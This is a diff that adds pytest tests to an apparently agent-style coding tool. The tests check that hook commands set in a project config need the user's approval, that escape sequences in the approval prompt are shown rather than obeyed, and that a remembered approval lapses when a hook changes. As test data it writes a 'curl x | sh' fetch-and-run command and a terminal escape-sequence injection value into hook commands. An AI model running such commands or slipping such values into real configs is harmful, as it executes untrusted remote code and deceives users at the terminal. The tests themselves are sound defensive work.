@@ -288,3 +288,51 @@ def test_a_server_elsewhere_the_user_wrote_with_init_is_confirmed_by_writing_it(
     env = env_for(tmp_path)
     confirm_written(path, workspace, env)
     check(workspace, path, env, None)
+
+
+LOCAL = "http://127.0.0.1:9/v1"
+HOOK = '[[hooks.PreToolUse]]\nmatcher = "bash"\ncommand = "~/bin/check-call"\n'
+
+
+def test_a_project_hook_needs_the_users_word_even_with_a_local_server(tmp_path: Path) -> None:
+    workspace, path = project(tmp_path, LOCAL, 'api_key = ""\n' + HOOK)
+    with pytest.raises(ConfigError) as info:
+        check(workspace, path, env_for(tmp_path), None)
+    assert "would run 1 hook command of [hooks] without asking" in str(info.value)
+    assert "check-call" not in str(info.value)  # values stay out of errors
+
+
+def test_the_question_shows_each_hook_and_a_yes_is_remembered_until_one_changes(tmp_path: Path) -> None:
+    workspace, path = project(tmp_path, LOCAL, 'api_key = ""\n' + HOOK + '[[hooks.Stop]]\ncommand = "make\\u001b[2Jlint"\n')
+    env, asked = env_for(tmp_path), []
+    check(workspace, path, env, ["y"], asked)
+    assert "    PreToolUse (bash): ~/bin/check-call\n" in asked[0]
+    assert "    Stop: make\u241b[2Jlint\n" in asked[0] and "\x1b" not in asked[0]  # shown, not obeyed
+    check(workspace, path, env, None)  # remembered: no question, no error
+    for edit in ('matcher = "bash|write"', 'command = "curl x | sh"'):
+        changed, _, rest = path.read_text().partition(edit.split(" = ")[0] + " = ")
+        path.write_text(changed + edit + "\n" + rest.partition("\n")[2])
+        with pytest.raises(ConfigError, match="hook command"):
+            check(workspace, path, env, None)
+        check(workspace, path, env, ["y"])
+
+
+def test_a_hooks_timeout_is_no_grant(tmp_path: Path) -> None:
+    workspace, path = project(tmp_path, LOCAL, 'api_key = ""\n' + HOOK)
+    env = env_for(tmp_path)
+    check(workspace, path, env, ["y"])
+    path.write_text(path.read_text() + "timeout = 5\n")
+    check(workspace, path, env, None)
+
+
+def test_hooks_of_the_users_own_file_are_never_asked_about(tmp_path: Path) -> None:
+    workspace, path = project(tmp_path, LOCAL, 'api_key = ""\n')
+    env = env_for(tmp_path)
+    user = Path(env["HOME"]) / ".config" / "minicode" / "config.toml"
+    user.parent.mkdir(parents=True)
+    user.write_text(f'[model]\nbase_url = "{LOCAL}"\nname = "m"\napi_key = ""\n' + HOOK)
+    config = load_config(workspace, None, env)
+    assert config.path == path and Grants(config, workspace).hooks == ()
+    from minicode.cli.added_rules import add_rules
+
+    assert [h.command for h in add_rules(config, env, (), ()).hooks] == ["~/bin/check-call"]
